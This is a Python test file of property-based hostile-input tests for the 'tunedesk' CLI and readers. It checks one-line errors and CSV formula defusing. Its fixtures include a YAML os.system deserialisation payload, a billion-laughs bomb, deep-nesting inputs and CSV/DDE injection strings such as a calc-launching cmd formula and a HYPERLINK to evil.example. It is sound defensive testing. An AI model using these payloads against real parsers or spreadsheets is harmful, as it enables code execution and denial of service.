"""Hostile input: every reader and command that takes a file or text fails with one clear line, never a traceback.

Property-based (hypothesis) over random bytes and Unicode, plus explicit examples of the classic traps: invalid
UTF-8, BOMs, empty files, huge lines, JSON/YAML nested past the recursion limit, integers too long to convert,
lone surrogate escapes, YAML tags and timestamps, wrong JSON types, ragged CSV, CR-only line ends. Exports are
checked the other way round: no CSV cell a spreadsheet would run as a formula.

The hypothesis settings live in this file (``HOSTILE``, ``QUICK``): few examples, no deadline, so the whole
file stays well under a minute on two busy cores; the explicit ``@example``s always run.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from tunedesk.cli import app
from tunedesk.errors import TunedeskError

HOSTILE = settings(
    max_examples=15,
    database=None,  # nothing written into the checkout; the explicit examples pin the known traps
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
QUICK = settings(HOSTILE, max_examples=8)

BOM = b"\xef\xbb\xbf"
DEEP_JSON = b"[" * 3_000 + b"]" * 3_000 + b"\n"  # past the recursion limit (1,000)
DEEP_OBJECT = b'{"a":' * 5_000 + b"1" + b"}" * 5_000 + b"\n"
# PyYAML's pure-Python parser takes time quadratic in the depth to reach the recursion limit (2.5 s for the JSON
# above); 600 levels get there in a tenth of that. (libyaml's CSafeLoader segfaults on deep input: never use it.)
DEEP_YAML = b"{a: " * 600 + b"1" + b"}" * 600 + b"\n"


def fitting(content: bytes, path: Path) -> bytes:
    """The deep-nesting traps at a depth that fails fast for the parser ``path`` meets."""
    return DEEP_YAML if path.suffix == ".yaml" and content in (DEEP_JSON, DEEP_OBJECT) else content


BILLION_LAUGHS = b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n".encode()
    for i in range(12)
)
# The traps, each a whole file: every reader meets every one of them, whatever hypothesis draws besides.
NASTY: tuple[bytes, ...] = (
    b"",
    BOM,
    BOM + b'{"messages": []}\n',
    b"\xff\xfe\x00\x01garbage\n",
    b'{"id": "caf\xe9"}\n',
    b"a\x00b,c\x00\n",
    DEEP_JSON,
    DEEP_OBJECT,
    b"a:\n" + b"".join(b"  " * depth + b"- \n" for depth in range(1, 1100)),  # YAML nested by indentation
    b"x" * 140_000 + b"\n",  # a huge line: more than the csv module's field limit (131,072)
    b'{"id": 1' + b"0" * 5000 + b', "label": 1e999}\n',  # an integer Python refuses to convert
    b'{"id": "\\ud800", "text": "\\udc80 ok", "messages": [{"role": "user", "content": "\\udfff"}]}\n',
    b"name: 2024-13-45\n",  # a YAML timestamp that is no date
    b"!!python/object/apply:os.system ['echo pwned']\n",
    BILLION_LAUGHS,
    b'"unterminated\n',
    b"[1, 2, 3]\n",
    b"null\n",
    "\u2028\u2029\x85\x0c{}\n".encode(),
    b"id,text,label\r1,=cmd|' /C calc'!A0,positive\r",
)


def as_file(parts: tuple[bytes, str, bytes]) -> bytes:
    return parts[0] + parts[1].encode("utf-8") + parts[2]


hostile_bytes = st.one_of(
    st.sampled_from(NASTY),
    st.binary(max_size=300),
    st.text(max_size=300).map(lambda text: text.encode("utf-8")),
    st.tuples(st.sampled_from([b"", BOM]), st.text(max_size=100), st.binary(max_size=8)).map(as_file),
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
        max_leaves=12,
    ).map(lambda value: (json.dumps(value) + "\n").encode()),
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)


@contextmanager
def scratch() -> Iterator[Path]:
    """A fresh directory per hypothesis example (tmp_path is one per test, shared by all its examples)."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as directory:
        yield Path(directory)


def one_line(message: str) -> bool:
    return len(message.strip().splitlines()) == 1  # splitlines: \x1c, \x85, \u2028... break lines too


# ---- every reader ---------------------------------------------------------------------------------------------
def _support(fmt: str | None) -> Callable[[Path], Any]:
    from data.support_chat import read_conversations

    return lambda path: list(read_conversations(path, fmt))  # type: ignore[arg-type]


def _records(kind: str, fmt: str) -> Callable[[Path], Any]:
    from data.legal_summary import read_documents
    from data.sentiment import read_posts

    reader: Any = read_documents if kind == "legal" else read_posts
    return lambda path: list(reader(path, fmt))


def _captions(path: Path) -> Any:
    from data.captioning import read_captions

    return list(read_captions(path))


def _validate(path: Path) -> Any:
    from data.validate import parse_target, validate_file

    report = validate_file(path, parse_target("azure:gpt-4o-mini-2024-07-18", path.parent))
    for problem in report.problems:  # a report, not an exception: each problem is still one line
        assert one_line(problem.format(path)), problem
    return report.summary()


def _stats(path: Path) -> Any:
    from data.stats import collect
    from data.validate import parse_target

    return collect([path.parent], parse_target("azure:gpt-4o-mini-2024-07-18", path.parent))


def _intents(path: Path) -> Any:
    from data.augment import load_intents

    return load_intents(path)


def _suite(path: Path) -> Any:
    from eval.suite import load_suite

    return load_suite(path)


def _recipe(path: Path) -> Any:
    from finetune.lora import TrainConfig

    return TrainConfig.from_yaml(path)


def _users(path: Path) -> Any:
    from tunedesk import users

    return users.load(path)


def _examples(path: Path) -> Any:
    from eval.history import read_examples

    return read_examples(path.parent)


def _results(path: Path) -> Any:
    from chatbot.review import run_models

    return run_models(path)


def _review(path: Path) -> Any:
    from chatbot.review import items_from_eval

    return items_from_eval(path.parent)


# name -> (file name, reader); the reader gets the path of the hostile file.
READERS: dict[str, tuple[str, Callable[[Path], Any]]] = {
    "support-jsonl": ("raw.jsonl", _support("jsonl")),
    "support-csv": ("raw.csv", _support("csv")),
    "support-transcript": ("raw.txt", _support("transcript")),
    "support-instructions": ("raw.csv", _support("instructions")),
    "support-guessed": ("raw", _support(None)),
    "legal-jsonl": ("docs.jsonl", _records("legal", "jsonl")),
    "legal-csv": ("docs.csv", _records("legal", "csv")),
    "sentiment-jsonl": ("posts.jsonl", _records("sentiment", "jsonl")),
    "sentiment-csv": ("posts.csv", _records("sentiment", "csv")),
    "captions": ("captions.jsonl", _captions),
    "data-validate": ("train.jsonl", _validate),
    "data-stats": ("train.jsonl", _stats),
    "data-stats-meta": ("train.meta.jsonl", lambda path: (path.with_name("train.jsonl").write_text(""), _stats(path))),
    "data-stats-report": ("report.json", lambda path: (path.with_name("train.jsonl").write_text(""), _stats(path))),
    "intents": ("intents.yaml", _intents),
    "eval-suite": ("suite.yaml", _suite),
    "finetune-recipe": ("recipe.yaml", _recipe),
    "users-file": ("users.yaml", _users),
    "eval-examples": ("examples.jsonl", _examples),
    "eval-results": ("results.json", _results),
    "review-from-eval": ("examples.jsonl", _review),
}


@pytest.mark.parametrize("name", READERS)
@HOSTILE
@given(content=hostile_bytes)
@example(content=NASTY[0])
@example(content=NASTY[1])
@example(content=NASTY[3])
@example(content=NASTY[4])
@example(content=NASTY[5])
@example(content=DEEP_JSON)
@example(content=DEEP_OBJECT)
@example(content=NASTY[8])
@example(content=NASTY[9])
@example(content=NASTY[10])
@example(content=NASTY[11])
@example(content=NASTY[12])
@example(content=NASTY[13])
@example(content=BILLION_LAUGHS)
@example(content=NASTY[16])
@example(content=NASTY[19])
def test_a_reader_reads_any_bytes_or_says_in_one_line_which_file_is_wrong(name: str, content: bytes) -> None:
    filename, read = READERS[name]
    with scratch() as directory:
        path = directory / filename
        path.write_bytes(fitting(content, path))
        try:
            read(path)
        except TunedeskError as exc:
            message = str(exc)
            assert one_line(message), message
            assert str(path) in message, message


@HOSTILE
@given(content=hostile_bytes)
@example(content=b"a: [")
@example(content=b"\xff\xfe")
@example(content=b"[1, 2]")
@example(content=b"home: 2024-13-45\n")
@example(content=DEEP_JSON)
def test_a_broken_settings_file_is_a_config_error_naming_it(content: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    from tunedesk.settings import load_settings

    with scratch() as directory:
        path = directory / "tunedesk.yaml"
        path.write_bytes(fitting(content, path))
        monkeypatch.setenv("TUNEDESK_CONFIG", str(path))
        try:
            load_settings()
        except TunedeskError as exc:
            assert one_line(str(exc)) and str(path) in str(exc), str(exc)


def test_settings_from_the_environment_and_dotenv_fail_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tunedesk.errors import ConfigError
    from tunedesk.settings import load_settings

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TUNEDESK_USERS", "{not json")
    with pytest.raises(ConfigError, match="users"):
        load_settings()
    monkeypatch.delenv("TUNEDESK_USERS")
    (tmp_path / ".env").write_bytes(b"TUNEDESK_BACKEND=caf\xe9\n")
    with pytest.raises(ConfigError, match=r"\.env: not UTF-8"):
        load_settings()


# ---- wrong types in JSON fields -------------------------------------------------------------------------------
VALID_RECORDS: dict[str, tuple[str, dict[str, Any], list[str]]] = {
    "support-jsonl": (
        "raw.jsonl",
        {
            "id": "c1",
            "intent": "refund",
            "resolved": True,
            "messages": [{"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello"}],
        },
        ["id", "intent", "resolved", "messages", "messages[1].content", "messages[1].role"],
    ),
    "legal-jsonl": (
        "docs.jsonl",
        {"id": "d1", "title": "T", "document": "Text.", "summary": "S."},
        ["id", "title", "document", "summary"],
    ),
    "sentiment-jsonl": ("posts.jsonl", {"id": "p1", "text": "great", "label": "positive"}, ["id", "text", "label"]),
    "captions": (
        "captions.jsonl",
        {"id": "i1", "image": "a.png", "caption": "A red shoe."},
        ["id", "image", "caption"],
    ),
}


def _replace(record: dict[str, Any], field: str, value: Any) -> dict[str, Any]:
    record = json.loads(json.dumps(record))
    if field.startswith("messages[1]."):
        record["messages"][1][field.rsplit(".", 1)[1]] = value
    else:
        record[field] = value
    return record


@pytest.mark.parametrize("name", VALID_RECORDS)
@HOSTILE
@given(data=st.data(), value=json_values)
@example(data=None, value=5)
@example(data=None, value=["a"])
@example(data=None, value={"a": 1})
@example(data=None, value=None)
def test_a_field_of_the_wrong_type_is_an_error_naming_file_line_and_field(name: str, data: Any, value: Any) -> None:
    filename, valid, fields = VALID_RECORDS[name]
    chosen = fields if data is None else [data.draw(st.sampled_from(fields), label="field")]
    for field in chosen:
        with scratch() as directory:
            path = directory / filename
            second = _replace(valid, field, value) | {"id": "second"} if field != "id" else _replace(valid, "id", value)
            path.write_text(json.dumps(valid) + "\n" + json.dumps(second) + "\n", encoding="utf-8")
            try:
                READERS[name][1](path)
            except TunedeskError as exc:
                message = str(exc)
                assert message.startswith(f"{path}:2: "), message
                assert field.split("[")[0] in message, message
                assert one_line(message), message


any_text = st.text(st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=40).filter(str.strip)


@HOSTILE
@given(texts=st.lists(any_text, min_size=1, max_size=3))
@example(texts=["line\u2028separator", "next\x85line", "file\x1cseparator"])
def test_a_jsonl_line_may_hold_any_unicode_text(texts: list[str]) -> None:
    """JSON Lines end at LF alone: U+2028, NEL and the like written raw (``ensure_ascii=False``, as the ratings
    export does) are text inside a string, not line ends."""
    from data.sentiment import read_posts
    from data.support_chat import read_conversations

    with scratch() as directory:
        posts, chats = directory / "posts.jsonl", directory / "chats.jsonl"
        posts.write_text(
            "".join(json.dumps({"text": text, "label": "neutral"}, ensure_ascii=False) + "\n" for text in texts),
            encoding="utf-8",
        )
        turns = [{"role": "user", "content": text} for text in texts]
        chats.write_text(json.dumps({"messages": turns}, ensure_ascii=False) + "\r\n", encoding="utf-8")
        assert [post.text for post in read_posts(posts)] == [text.strip() for text in texts]
        (conversation,) = read_conversations(chats)
        assert [turn.content for turn in conversation.turns] == texts


# ---- ragged CSV -----------------------------------------------------------------------------------------------
CSV_HEADERS = {  # the last column is required, so a short row always lacks a required value
    "support-csv": ("raw.csv", ["conversation_id", "turn", "speaker", "text"], ["c1", "1", "customer", "Hi"]),
    "legal-csv": ("docs.csv", ["id", "document", "summary"], ["d1", "Text.", "S."]),
    "sentiment-csv": ("posts.csv", ["id", "text", "label"], ["p1", "great", "positive"]),
}
cells = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=12)


@pytest.mark.parametrize("name", CSV_HEADERS)
@HOSTILE
@given(good=st.integers(0, 3), width=st.integers(0, 9), extra=st.lists(cells, min_size=9, max_size=9))
@example(good=1, width=2, extra=[""] * 9)
@example(good=0, width=6, extra=["x"] * 9)
def test_a_ragged_csv_row_is_an_error_naming_its_line(name: str, good: int, width: int, extra: list[str]) -> None:
    filename, header, row = CSV_HEADERS[name]
    if width == len(header) or width == 0:
        return  # not ragged (an empty row is a blank line, which readers skip)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(header)
    for index in range(good):
        writer.writerow([f"{row[0]}{index}", *row[1:]])
    writer.writerow((row + extra)[:width] if width < len(header) else row + extra[: width - len(header)])
    with scratch() as directory:
        path = directory / filename
        path.write_text(out.getvalue(), encoding="utf-8")
        with pytest.raises(TunedeskError) as raised:
            READERS[name][1](path)
        assert str(raised.value).startswith(f"{path}:{good + 2}: "), str(raised.value)


@HOSTILE
@given(texts=st.lists(cells.filter(lambda text: text.strip() != ""), min_size=1, max_size=4))
def test_csv_with_cr_only_line_ends_reads_like_lf(texts: list[str]) -> None:
    """Old Mac and some Excel exports end lines with CR alone; a quoted cell may hold any line break."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(["conversation_id", "turn", "speaker", "text"])
    for index, text in enumerate(texts):
        writer.writerow(["c1", str(index), "customer" if index % 2 == 0 else "agent", text])
    lf = out.getvalue()
    cr = re.sub(r"\n(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", "\r", lf)  # only the line ends outside quotes
    with scratch() as directory:
        read = READERS["support-csv"][1]
        (directory / "lf.csv").write_text(lf, encoding="utf-8", newline="")
        (directory / "cr.csv").write_text(cr, encoding="utf-8", newline="")
        as_lf = [c.turns for c in read(directory / "lf.csv")]
        assert [c.turns for c in read(directory / "cr.csv")] == as_lf
        assert [turn.content for turn in as_lf[0]] == texts


# ---- CSV injection in exports ---------------------------------------------------------------------------------
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet might run: a trigger first, or after blanks and control characters it skips;
    or a first character that is a tab, CR, LF or NUL (OWASP, ASVS 1.2.10)."""
    stripped = cell.lstrip(
        "".join(map(chr, range(33))) + "\x7f\x85\xa0\u1680\u2000\u2001\u2002\u2003\u2028\u2029\u3000"
    )
    return stripped[:1] in tuple(TRIGGERS) or cell[:1] in ("\t", "\r", "\n", "\x00")


spreadsheet_text = st.one_of(
    st.text(max_size=30),
    st.tuples(
        st.sampled_from([" ", "\t", "\r", "\n", "\x00", " \t", ""]),
        st.sampled_from(tuple(TRIGGERS)),
        st.text(max_size=20),
    ).map("".join),
)


@HOSTILE
@given(prompts=st.lists(spreadsheet_text, min_size=1, max_size=5), comment=spreadsheet_text)
@example(prompts=['=HYPERLINK("http://evil.example","refund")', " =1+1", "\n=1+1", "\x00@SUM(A1)"], comment="\uff1d1+1")
@example(prompts=["-1 day", "+33 1 23", "@admin"], comment="\t=cmd|' /C calc'!A0")
def test_csv_exports_never_hold_a_cell_a_spreadsheet_would_run(prompts: list[str], comment: str) -> None:
    from chatbot import store

    rows: list[dict[str, Any]] = [
        {"id": str(index), "prompt": prompt, "comment": comment, "thumbs": -1} for index, prompt in enumerate(prompts)
    ]
    columns = ["id", "prompt", "comment", "thumbs"]
    exported = list(csv.DictReader(io.StringIO(store.export_text(rows, "csv", columns), newline="")))
    assert len(exported) == len(rows)
    for row, cells_out in zip(rows, exported, strict=True):
        for column in ("prompt", "comment"):
            cell, original = cells_out[column], row[column]
            assert not runs_as_formula(cell), (original, cell)
            assert cell in (original, "'" + original), (original, cell)
            assert cell == original or runs_as_formula(original), (original, cell)  # plain text stays as typed
        assert cells_out["thumbs"] == "-1"  # a number is not text a customer typed
    as_jsonl = [json.loads(line) for line in store.export_text(rows, "jsonl", columns).split("\n")[:-1]]
    assert [line["prompt"] for line in as_jsonl] == prompts  # JSONL keeps the text as typed


def test_the_ratings_export_command_writes_defused_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What an agent typed into the chat, exported by ``tunedesk ratings export --format csv`` (the same
    ``export_text`` serves GET /api/ratings?format=csv)."""
    from chatbot import store
    from tunedesk.db import engine
    from tunedesk.settings import load_settings

    monkeypatch.setenv("TUNEDESK_DATABASE_URL", f"sqlite:///{tmp_path / 'records.db'}")
    records = engine(load_settings())
    hostile = '=HYPERLINK("http://evil.example?"&A1,"refund")'
    store.record_answer(
        records,
        store.Answer("m1", None, "t1", "customer", None, "echo", "echo", " @SUM(1+1)*cmd|' /C calc'!A0", "\r-1"),
    )
    store.record_rating(records, store.RatingIn(message_id="m1", naturalness=3, comment=hostile), "alice", "chat")
    out = tmp_path / "ratings.csv"
    result = invoke(["ratings", "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline=""))
    assert (row["comment"], row["prompt"], row["answer"]) == ("'" + hostile, "' @SUM(1+1)*cmd|' /C calc'!A0", "'\r-1")


# ---- the commands -----------------------------------------------------------------------------------------------
runner = CliRunner()


def invoke(args: list[str]) -> Any:
    result = runner.invoke(app, args)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def assert_one_line_error(result: Any) -> None:
    assert result.exit_code != 0
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr


# name -> (input file name, arguments given the input and an output path, whether the output is a directory)
COMMANDS: dict[str, tuple[str, Callable[[Path, Path], list[str]], bool]] = {
    "data prepare": ("raw.csv", lambda src, out: ["data", "prepare", str(src), "--out", str(out), "--no-redact"], True),
    "data stats": ("train.jsonl", lambda src, out: ["data", "stats", str(src), "--out", str(out)], True),
    "data export-feedback": (
        "ratings.jsonl",
        lambda src, out: ["data", "export-feedback", "--ratings", str(src), "--out", str(out)],
        True,
    ),
    "sentiment prepare": ("posts.csv", lambda src, out: ["sentiment", "prepare", str(src), "--out", str(out)], True),
    "finetune lora": (
        "recipe.yaml",
        lambda src, out: ["finetune", "lora", "--config", str(src), "--output", str(out)],
        True,
    ),
    "summarization prepare": ("recipe.yaml", lambda src, out: ["summarization", "prepare", "--config", str(src)], True),
    "eval run": ("suite.yaml", lambda src, out: ["eval", "run", str(src), "--out", str(out)], True),
    "review add": (
        "examples.jsonl",
        lambda src, out: ["review", "add", "hostile", "--from-eval", str(src.parent)],
        True,
    ),
}


@pytest.mark.parametrize("name", COMMANDS)
@QUICK
@given(content=hostile_bytes)
@example(content=b"")
@example(content=b"\xff\xfe{")
@example(content=DEEP_JSON)
@example(content=b'{"id": 1' + b"0" * 5000 + b"}\n")
@example(content=b"conversation_id,turn,speaker,text\n1,1,customer,hi,extra\n")
def test_a_command_fed_hostile_input_exits_with_one_line_and_keeps_the_old_output(
    name: str, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    filename, arguments, _ = COMMANDS[name]
    with scratch() as directory:
        monkeypatch.chdir(directory)  # defaults (build/, runs/) land in the scratch directory
        source, out = directory / "in" / filename, directory / "out"
        source.parent.mkdir()
        source.write_bytes(fitting(content, source))
        out.mkdir()
        (out / "previous.txt").write_text("previous run")
        result = invoke(arguments(source, out))
        if result.exit_code != 0:
            assert_one_line_error(result)
            assert sorted(p.name for p in out.iterdir()) == ["previous.txt"]
            assert (out / "previous.txt").read_text() == "previous run"


def test_validate_reports_each_broken_line_and_exits_1(tmp_path: Path) -> None:
    source = tmp_path / "train.jsonl"
    source.write_bytes(b'{"messages": [\n\xff\n' + DEEP_JSON + b'{"messages": "\\ud800"}\n')
    result = invoke(["data", "validate", str(source)])
    assert result.exit_code == 1
    for line in (1, 2, 3, 4):
        assert f"{source}:{line}: " in result.stderr


@QUICK
@given(field=st.sampled_from(["kind", "rater", "prompt", "naturalness", "thumbs", "created_at"]), value=json_values)
@example(field="naturalness", value="5")
@example(field="prompt", value=["a"])
@example(field="created_at", value="yesterday")
def test_export_feedback_names_the_field_of_a_wrong_type(
    field: str, value: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    rating = {
        "id": "r1",
        "created_at": "2026-11-01T10:00:00+00:00",
        "rater": "alice",
        "source": "chat",
        "kind": "scores",
        "message_id": "m1",
        "prompt": "Where is my parcel?",
        "answer": "It ships today.",
        "naturalness": 5,
        "correctness": 5,
        "helpfulness": 5,
        "correction": "It ships today, tracking follows.",
    }
    with scratch() as directory:
        monkeypatch.chdir(directory)
        source = directory / "ratings.jsonl"
        source.write_text(json.dumps(rating) + "\n" + json.dumps(rating | {"id": "r2", field: value}) + "\n")
        result = invoke(["data", "export-feedback", "--ratings", str(source), "--out", str(directory / "out")])
        if result.exit_code != 0:
            assert_one_line_error(result)
            assert f"{source}:2: " in result.stderr and field in result.stderr, result.stderr
            assert not (directory / "out").exists()


@pytest.mark.parametrize(
    "args",
    [
        ["data", "export-feedback", "--out", "out", "--since", "yesterday"],
        ["data", "prepare", "raw.csv", "--out", "out", "--speaker", "no-equals-sign"],
        ["data", "prepare", "raw.csv", "--out", "out", "--format", "\x00\n"],
        ["data", "validate", "raw.csv", "--target", "nonsense\n:x"],
        ["users", "add", " padded\n", "--password-stdin"],
        ["ratings", "export", "--format", "xlsx"],
    ],
)
def test_bad_text_on_the_command_line_is_one_line(
    args: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TUNEDESK_USERS_FILE", str(tmp_path / "users.yaml"))
    (tmp_path / "raw.csv").write_text("conversation_id,turn,speaker,text\nc1,1,customer,hi\nc1,2,agent,hello\n")
    assert_one_line_error(invoke(args))
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("variable", "content"),
    [
        ("TUNEDESK_CONFIG", b"home: [\n"),
        ("TUNEDESK_CONFIG", b"\xff"),
        ("TUNEDESK_USERS_FILE", b"users: {bob: 5}\n"),
        ("TUNEDESK_USERS_FILE", DEEP_YAML),
    ],
)
def test_a_broken_settings_or_users_file_stops_any_command_in_one_line(
    variable: str, content: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "broken.yaml"
    path.write_bytes(content)
    monkeypatch.setenv(variable, str(path))
    result = invoke(["users", "list"])
    assert_one_line_error(result)
    assert str(path) in result.stderr
